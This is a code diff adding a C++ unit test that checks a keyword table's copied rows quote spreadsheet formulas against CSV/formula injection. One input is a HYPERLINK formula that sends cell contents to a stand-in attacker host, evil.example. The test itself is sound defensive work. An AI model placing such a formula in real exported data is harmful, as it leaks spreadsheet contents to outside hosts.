@@ -62,6 +62,21 @@ TEST(CopyTexts, KeywordsOnePerLineRowsTabSeparatedWithTheHeader) {
                                        "2\ttab here\tline  break\t\t\t\n");
 }
 
+// Pasted into a spreadsheet, a formula would run: the quote of Save keeps it text.
+TEST(CopyTexts, RowsQuoteFormulasButNotPlainNumbers) {
+    const std::pair<const char*, const char*> cases[] = {
+        {"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"},
+        {"@SUM(A1)", "'@SUM(A1)"}, {"-golf", "'-golf"}, {"\t=1+1", "' =1+1"}, {"-12", "-12"},
+        {"+1,234.5", "+1,234.5"}, {"golf", "golf"}};
+    for (const auto& [value, pasted] : cases) {
+        KeywordTable table;
+        table.Append({value, value, "", "", ""});
+        EXPECT_EQ(RowsText(table, {0}).substr(RowsText(table, {}).size()),
+                  std::string("1\t") + pasted + "\t" + pasted + "\t\t\t\n")
+            << value;
+    }
+}
+
 TEST(SaveShown, WritesOnlyTheShownRowsAndTheSameBytesAsSaveResultsForAll) {
     QTemporaryDir folder;
     test::ScriptedUi ui;
